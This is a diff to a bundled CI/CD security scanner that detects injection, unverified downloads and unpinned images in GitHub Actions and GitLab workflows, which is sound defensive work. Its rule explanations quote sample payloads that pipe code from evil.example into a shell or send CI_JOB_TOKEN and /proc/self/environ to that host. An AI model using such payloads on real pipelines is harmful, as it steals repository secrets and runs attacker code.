+  const check3 = (node) => walkScalars(node, doc2, (_s, value2) => {
+    if (value2.includes("${{") && referencesData(value2)) dynamic = true;
+  });
   for (const e of entries(asMap(matrix, doc2), doc2)) {
     if (e.key === "exclude") continue;
-    const relevant = e.key === "include" || e.key.toLowerCase() === key || asScalar(e.value, doc2) !== void 0;
-    if (!relevant) continue;
-    walkScalars(e.value, doc2, (_s, value2) => {
-      if (value2.includes("${{") && referencesData(value2)) dynamic = true;
-    });
+    if (e.key === "include") {
+      const list = asSeq(e.value, doc2);
+      if (!list) check3(e.value);
+      for (const item of list ? items(list, doc2) : []) {
+        const map = asMap(item, doc2);
+        if (!map) check3(item);
+        for (const x of entries(map, doc2)) if (x.key.toLowerCase() === key) check3(x.value);
+      }
+    } else if (e.key.toLowerCase() === key || asScalar(e.value, doc2) !== void 0) check3(e.value);
   }
   return !dynamic;
 }
@@ -30909,8 +31135,11 @@ function classifyEnv(context, name, workflow, job, step, depth) {
     why: `is set from ${inner.contexts[0].context}, which ${inner.contexts[0].why}`
   } : void 0;
 }
+var INPUT_TRIGGERS = /* @__PURE__ */ new Set(["workflow_dispatch", "workflow_call"]);
 var MAX_ENV_DEPTH = 4;
 function classifyInput(context, name, workflow) {
+  if (workflow.kind === "workflow" && workflow.triggers.length > 0 && !workflow.triggers.some((t) => INPUT_TRIGGERS.has(t.name)))
+    return void 0;
   if (name === "*") return { context, severity: "medium", why: "includes every input" };
   const type = workflow.inputs.get(name.toLowerCase());
   if (type === "boolean" || type === "number" || type === "choice" || type === "environment") return void 0;
@@ -30950,7 +31179,7 @@ var rule6 = {
   check: "hardening",
   title: "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
   severity: "high",
-  description: 'Reports `run:` scripts that write to `$GITHUB_ENV` or `$GITHUB_PATH` (`>> "$GITHUB_ENV"`, `tee -a`, PowerShell `Out-File`/`Add-Content $env:GITHUB_ENV`, `%GITHUB_ENV%`) when the workflow runs on `pull_request_target` or `workflow_run` (whatever is written likely derives from the untrusted pull request or artifact), or when the written line expands an attacker-controlled expression.',
+  description: 'Reports `run:` scripts that write to `$GITHUB_ENV` or `$GITHUB_PATH` (`>> "$GITHUB_ENV"`, `tee -a`, PowerShell `Out-File`/`Add-Content $env:GITHUB_ENV`, `%GITHUB_ENV%`) when the workflow runs on `pull_request_target` or `workflow_run` (whatever is written likely derives from the untrusted pull request or artifact), or when the written line expands an attacker-controlled expression. In composite actions, which run inside whatever workflow uses them, a written value computed at run time is low. Writes of literal text only (`echo FOO=bar >> "$GITHUB_ENV"`) are never reported.',
   rationale: "Lines appended to `GITHUB_ENV` become environment variables of every later step of the job, and `GITHUB_PATH` entries come first in their `PATH`. Whoever controls the written value can set `LD_PRELOAD`, `NODE_OPTIONS=--require \u2026`, `BASH_ENV`, or inject a newline and a variable of their own, and so run code in the following steps with the job's secrets and token.",
   fix: 'Do not derive environment variables from untrusted input in privileged workflows. Where a value must be passed on, use a step output and an intermediate `env:` variable, and validate it first:\n\n```yaml\n- id: meta\n  env:\n    HEAD_REF: ${{ github.head_ref }}\n  run: |\n    [[ "$HEAD_REF" =~ ^[A-Za-z0-9._/-]+$ ]] || exit 1\n    echo "ref=$HEAD_REF" >> "$GITHUB_OUTPUT"\n- env:\n    REF: ${{ steps.meta.outputs.ref }}\n  run: ./build.sh "$REF"\n```',
   references: [
@@ -30965,8 +31194,10 @@ var WRITES = [
   new RegExp(String.raw`(?:>>?|\btee\b(?:\s+-[a-z-]+)*)\s*["']?(${ENV_FILE})`, "i"),
   new RegExp(String.raw`\b(?:Out-File|Add-Content|Set-Content)\b[^\n]*?(${ENV_FILE})`, "i")
 ];
+var STATIC_WRITE = /^\s*(?:echo|printf)(?:\s+[^$`%;&|(){}<>]*)?\|?\s*$/;
 function run6(workflow) {
   const privileged3 = privilegedTriggers(workflow);
+  const composite = workflow.kind === "action";
   const findings = [];
   const keys = new KeyCounter();
   for (const job of workflow.jobs) {
@@ -30978,12 +31209,13 @@ function run6(workflow) {
         if (!match2) continue;
         const file = /PATH/i.test(match2[1]) ? "GITHUB_PATH" : "GITHUB_ENV";
         const tainted = taintedExpressions(line.text, workflow, job, step);
-        if (privileged3.length === 0 && tainted.length === 0) continue;
+        const dynamic = tainted.length > 0 || !STATIC_WRITE.test(line.text.slice(0, match2.index));
+        if (!dynamic || privileged3.length === 0 && !composite && tainted.length === 0) continue;
         const fileIndex = match2.index + match2[0].lastIndexOf(match2[1]) + match2[1].indexOf("GITHUB_");
-        const reason = tainted.length > 0 ? `the written line expands ${tainted.flatMap((t) => t.contexts.map((c) => `\`${c.context}\``)).join(", ")}` : `the workflow runs on ${privileged3.map((t) => `\`${t}\``).join(" and ")}`;
+        const reason = tainted.length > 0 ? `the written line expands ${tainted.flatMap((t) => t.contexts.map((c) => `\`${c.context}\``)).join(", ")}` : privileged3.length > 0 ? `the workflow runs on ${privileged3.map((t) => `\`${t}\``).join(" and ")}` : "the written value is computed at run time in an action that privileged workflows may use";
         findings.push(
           makeFinding(workflow, rule6, {
-            severity: privileged3.length > 0 || tainted.length === 0 ? "high" : tainted[0].severity,
+            severity: privileged3.length > 0 ? "high" : tainted.length > 0 ? tainted[0].severity : "low",
             message: `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`} writes to ${file}, and ${reason}: later steps would run with attacker-chosen environment or PATH.`,
             span: spanInScalar(workflow, step.run.node, script, scriptOffset(line, fileIndex), file.length),
             job,
@@ -31368,7 +31600,7 @@ var rule13 = {
   check: "hardening",
   title: "Attacker-controlled expression expanded into code",
   severity: "high",
-  description: "Finds `${{ \u2026 }}` expressions inside `run:` scripts and inside code inputs of script actions (`actions/github-script` `script:` and similar) whose value an attacker can choose: pull request, issue, comment, review and discussion titles and bodies, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), commit messages and author names and e-mails, and any other `github.event.*` field that is free text (the list follows zizmor's context capabilities). String-typed `workflow_dispatch` / `workflow_call` inputs and composite-action inputs are reported at medium severity, and `steps.*.outputs` / `needs.*.outputs` and run-time matrices at low severity, because they often carry such data one hop removed. `${{ env.NAME }}` is followed to the `env:` that sets it (step, job, then workflow) and rated like the value there; a name set nowhere (likely written to `$GITHUB_ENV` at run time) is low. Contexts that only feed a comparison or a boolean function (`contains(github.event.issue.title, 'x')`) are not reported.",
+  description: "Finds `${{ \u2026 }}` expressions inside `run:` scripts and inside code inputs of script actions (`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `appleboy/ssh-action` `script:`, `mikefarah/yq` `cmd:` and the other sinks of CodeQL's Actions models) whose value an attacker can choose: pull request, issue, comment, review and discussion titles and bodies, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), commit messages and author names and e-mails, and any other `github.event.*` field that is free text (the list follows zizmor's context capabilities). String-typed `workflow_dispatch` / `workflow_call` inputs and composite-action inputs are reported at medium severity (in workflows without those triggers `inputs` is always empty and is not reported), and `steps.*.outputs` / `needs.*.outputs` and run-time matrices at low severity, because they often carry such data one hop removed. `${{ env.NAME }}` is followed to the `env:` that sets it (step, job, then workflow) and rated like the value there; a name set nowhere (likely written to `$GITHUB_ENV` at run time) is low. Contexts that only feed a comparison or a boolean function (`contains(github.event.issue.title, 'x')`) are not reported.",
   rationale: 'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runtime sees it. A pull request titled `x"; curl -sSf https://evil.example/x | sh; echo "` therefore becomes part of the script and runs with the job\'s token and secrets. In `pull_request_target`, `issue_comment` or `workflow_run` workflows this gives anyone with a GitHub account code execution with write access to the repository; it is the most common way GitHub Actions workflows are compromised.',
   fix: 'Never expand untrusted data into code. Pass it through an environment variable and quote the variable, so the shell treats it as data:\n\n```yaml\n# Vulnerable\n- run: echo "${{ github.event.pull_request.title }}"\n\n# Fixed\n- env:\n    PR_TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$PR_TITLE"\n```\n\nFor `actions/github-script`, read the value from `context` (`context.payload.pull_request.title`) or from `process.env` instead of expanding it into the script.',
   references: [
@@ -31383,16 +31615,37 @@ var CODE_INPUTS = {
   "actions/github-script": ["script"],
   "amadevus/pwsh-script": ["script"],
   "jannekem/run-python-script-action": ["script"],
-  "cardinalby/js-eval-action": ["expression"]
+  "cardinalby/js-eval-action": ["expression"],
+  // Runs `sh -c "$INPUT_RUN"` in the container it starts (zizmor's addnab-docker-run-action test case).
+  "addnab/docker-run-action": ["run"],
+  "azure/cli": ["inlinescript"],
+  "azure/powershell": ["inlinescript"],
+  "appleboy/ssh-action": ["script"],
+  "mikefarah/yq": ["cmd"],
+  "devorbitus/yq-action-output": ["cmd"],
+  "sergeysova/jq-action": ["cmd"],
+  "docker/build-push-action": ["context"],
+  "roots/issue-closer-action": ["issue-close-message", "pr-close-message"],
+  "lucasbento/auto-close-issues": ["issue-close-message"],
+  "skitionek/notify-microsoft-teams": ["overwrite"],
+  "imjohnbo/issue-bot": ["body", "linked-comments-previous-issue-text", "linked-comments-new-issue-text"],
+  "8398a7/action-slack": ["custom_payload"],
+  "gautamkrishnar/blog-post-workflow": ["item_exec"],
+  "tibdex/backport": ["body_template", "head_template", "labels_template", "title_template"]
 };
+function codeInputs(uses) {
+  const repo = usesTarget(uses).split("/").slice(0, 2).join("/");
+  return CODE_INPUTS[repo] ?? [];
+}
 function sinks(step, workflow) {
   const out = [];
   if (step.run) out.push({ name: "run", value: step.run });
   if (step.uses) {
-    const inputs = CODE_INPUTS[usesTarget(step.uses.value)] ?? [];
+    const inputs = codeInputs(step.uses.value);
     for (const input of inputs) {
-      const value2 = stringValue(step.with.get(input)?.value, workflow.doc);
-      if (value2) out.push({ name: `with.${input}`, value: value2 });
+      const entry = step.with.get(input);
+      const value2 = stringValue(entry?.value, workflow.doc);
+      if (entry && value2) out.push({ name: `with.${entry.key}`, value: value2 });
     }
   }
   return out;
@@ -31433,7 +31686,7 @@ var rule14 = {
   check: "hardening",
   title: "Job container or service image not pinned by digest",
   severity: "medium",
-  description: "Reports job `container:` images and `services.<id>.image` without an `@sha256:` digest: high for an image with no tag or `:latest`, medium for a tag. An image given as `${{ matrix.<key> }}` is checked for every literal value of that matrix key, and `${{ cond && 'image:a' || 'image:b' }}` for each literal; other expressions cannot be resolved and are not reported.",
+  description: "Reports job `container:` images, `services.<id>.image` and the `runs.image: docker://\u2026` of Docker container actions (`action.yml`) without an `@sha256:` digest: high for an image with no tag or `:latest`, medium for a tag. An image given as `${{ matrix.<key> }}` is checked for every literal value of that matrix key, and `${{ cond && 'image:a' || 'image:b' }}` for each literal; other expressions cannot be resolved and are not reported.",
   rationale: "The job runs its steps inside the container image, with the job's token and secrets. A tag can be re-pushed by whoever controls the image repository (or its registry credentials), silently changing the environment every build runs in. A digest names exactly one image.",
   fix: "Pin the digest, keeping the tag for readability:\n\n```yaml\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container:\n      image: node:22-bookworm@sha256:<digest>\n    services:\n      db:\n        image: postgres:16@sha256:<digest>\n```\n\nResolve a digest with `docker buildx imagetools inspect node:22-bookworm` or `crane digest`.",
   references: [`${ZIZMOR_AUDITS}#unpinned-images`, `${SCORECARD_CHECKS}#pinned-dependencies`]
@@ -31474,6 +31727,21 @@ function run14(workflow) {
   const findings = [];
   const keys = new KeyCounter();
   const doc2 = workflow.doc;
+  const actionImage = workflow.actionImage;
+  if (actionImage && /^docker:\/\//i.test(actionImage.value.trim())) {
+    const image = actionImage.value.trim().slice("docker://".length);
+    const verdict = judgeImage(image);
+    if (verdict)
+      findings.push(
+        makeFinding(workflow, rule14, {
+          severity: verdict.severity,
+          message: `The Docker action's \`runs.image\`: ${verdict.message}.`,
+          span: nodeSpan(workflow, actionImage.node),
+          key: `runs.image:${image}`,
+          fix: `Pin the digest: docker://${image.replace(/:[^/:@]+$/, "")}:<tag>@sha256:<digest>`
+        })
+      );
+  }
   for (const job of workflow.jobs) {
     const images = [];
     if (job.container?.value) {
@@ -31555,6 +31823,12 @@ function isAllowed(target, allowed) {
     return minimatch(repo, pattern) || minimatch(lower, pattern);
   });
 }
+function valueSpan(workflow, uses) {
+  const trimmed = uses.value.trim();
+  const block = uses.node.type === "BLOCK_LITERAL" || uses.node.type === "BLOCK_FOLDED";
+  if (trimmed === "" || trimmed === uses.value && !block) return nodeSpan(workflow, uses.node);
+  return spanInScalar(workflow, uses.node, uses.value, uses.value.indexOf(trimmed), trimmed.length);
+}
 function run15(workflow, options) {
   const findings = [];
   const keys = new KeyCounter();
@@ -31565,7 +31839,7 @@ function run15(workflow, options) {
       makeFinding(workflow, rule15, {
         severity: verdict.severity,
         message: `${what}: ${verdict.message}`,
-        span: nodeSpan(workflow, uses.node),
+        span: valueSpan(workflow, uses),
         job,
         key: keys.next(`${job.id}:${uses.value.trim()}`),
         fix: verdict.fix
@@ -32959,7 +33233,16 @@ function remoteExecutions(script) {
       const tool = match2[1] ?? "curl";
       const offset = match2[0].search(/\b(?:curl|wget)\b/);
       const index = (match2.index ?? 0) + Math.max(0, offset);
+      if (fetchesPinnedContent(text3, index)) continue;
       if (!found.has(index)) found.set(index, { index, tool, snippet: match2[0].trim().slice(0, 120) });
+    }
+  }
+  if (found.size === 0) {
+    let at = 0;
+    for (const line of text3.split("\n")) {
+      const run17 = unverifiedRun(line);
+      if (run17) found.set(at + run17.index, { ...run17, index: at + run17.index, snippet: line.trim().slice(0, 120) });
+      at += line.length + 1;
     }
   }
   return [...found.values()].sort((a, b) => a.index - b.index);
@@ -33166,7 +33449,7 @@ var rules7 = [
     check: "hardening",
     title: "Script downloaded and executed unverified",
     severity: "medium",
-    description: 'A `script`, `before_script`, `after_script` or `hooks:pre_get_sources_script` line pipes `curl` or `wget` output into a shell or interpreter (`curl \u2026 | sh`, `wget -qO- \u2026 | sudo bash`, `\u2026 | python3`), or runs it through `sh -c "$(curl \u2026)"`, `eval "$(curl \u2026)"` or `source <(curl \u2026)`.',
+    description: 'A `script`, `before_script`, `after_script` or `hooks:pre_get_sources_script` line pipes `curl` or `wget` output into a shell or interpreter (`curl \u2026 | sh`, `wget -qO- \u2026 | sudo bash`, `\u2026 | python3`), or runs it through `sh -c "$(curl \u2026)"`, `eval "$(curl \u2026)"` or `source <(curl \u2026)`; also a download made executable on the same line without a checksum or signature check (`curl -o tool \u2026 && chmod +x tool`) and `deno run -A https://\u2026`. Downloads from a GitHub raw URL at a full commit SHA are immutable and not reported.',
     rationale: "The job runs whatever the server returns at that moment, with the job's CI/CD variables and token in its environment. A compromised download host, a hijacked domain or a changed script (the Codecov uploader breach in 2021 worked exactly this way) turns every pipeline into a credential leak. Nothing in the repository changes, so review never sees it.",
     fix: 'Download to a file, verify a checksum or signature you pinned in the repository, then run it; better, install from a package manager or bake the tool into a digest-pinned image:\n\n```yaml\nscript:\n  - curl -fsSLo install.sh https://example.com/install-1.4.2.sh\n  - echo "3b0c7e\u2026  install.sh" | sha256sum -c -\n  - sh install.sh\n```',
     references: ["https://about.codecov.io/security-update/", "https://docs.gitlab.com/ci/yaml/script/"]
@@ -33227,7 +33510,7 @@ var rules8 = [
     check: "hardening",
     title: "Untrusted text interpolated into a script",
     severity: "high",
-    description: "A script line (`script`, `before_script`, `after_script`, `hooks:pre_get_sources_script`) contains `$[[ inputs.NAME ]]` for a string input without `options:` or `regex:`, or passes a user-controlled predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_BRANCH`, `CI_COMMIT_REF_NAME`, `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_TAG_MESSAGE`, `GITLAB_USER_NAME`\u2026) to a command that parses its argument as code again: `eval`, `sh -c`/`bash -c`, `python -c`, `node -e`, `su -c`\u2026, outside single quotes.",
+    description: "A script line (`script`, `before_script`, `after_script`, `hooks:pre_get_sources_script`) contains `$[[ inputs.NAME ]]` for a string input without `options:` or `regex:` (high with `| expand_vars`, which also pastes the variables the value names; medium without, where only whoever sets the input writes the script), or passes a user-controlled predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_BRANCH`, `CI_COMMIT_REF_NAME`, `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_TAG_MESSAGE`, `GITLAB_USER_NAME`\u2026) to a command that parses its argument as code again: `eval`, `sh -c`/`bash -c`, `python -c`, `node -e`, `su -c`\u2026, outside single quotes.",
     rationale: 'GitLab replaces `$[[ inputs.x ]]` in the text of the script before the shell reads it, so an input value like `x"; curl https://evil.example/$CI_JOB_TOKEN; "` becomes shell code. Likewise `eval "echo $CI_COMMIT_MESSAGE"` runs a commit message such as `$(curl -d @/proc/self/environ evil.example)`. Branch names, commit messages and merge request titles are written by whoever pushes or opens the merge request, so the job runs their commands with its token and variables.',
     fix: 'Pass the text through an environment variable and quote it; never build code from it:\n\n```yaml\nspec:\n  inputs:\n    environment:\n      options: [staging, production]   # or regex: ^[a-z-]+$\n---\ndeploy:\n  variables:\n    TITLE: $CI_MERGE_REQUEST_TITLE\n  script:\n    - ./notify --title "$TITLE"           # quoted, never eval or sh -c\n    - ./deploy --env "$[[ inputs.environment ]]"\n```',
     references: [
@@ -33262,9 +33545,11 @@ function auditJob7(model, job) {
     for (const match2 of line.text.matchAll(INPUT)) {
       const name = match2[1] ?? "";
       if (inputIsConstrained(model, line.scalar.src.path, name)) continue;
+      const expands = /\|\s*expand_vars\b/.test(match2[0]);
       hits.push({
         ruleId: INJECTION,
-        message: `\`${match2[0]}\` is pasted into the \`${line.key}\` text before the shell reads it: an input value with quotes or \`$(...)\` runs as code.`,
+        ...expands ? {} : { severity: "medium" },
+        message: `\`${match2[0]}\` is pasted into the \`${line.key}\` text before the shell reads it: an input value with quotes or \`$(...)\` runs as code${expands ? ", and `expand_vars` also pastes the CI/CD variables the value names (merge request titles, branch names)" : ""}.`,
         position: positionInScalar(line.scalar, line.text, match2.index ?? 0, match2[0]),
         owner: line.scalar.owner,
         job: job.name,
@@ -53763,4 +54048,4 @@ export {
   runGate,
   buildReportModel
 };
-/*! For license information please see chunk-43BWHQ2L.js.LEGAL.txt */
+/*! For license information please see chunk-INOECJJM.js.LEGAL.txt */
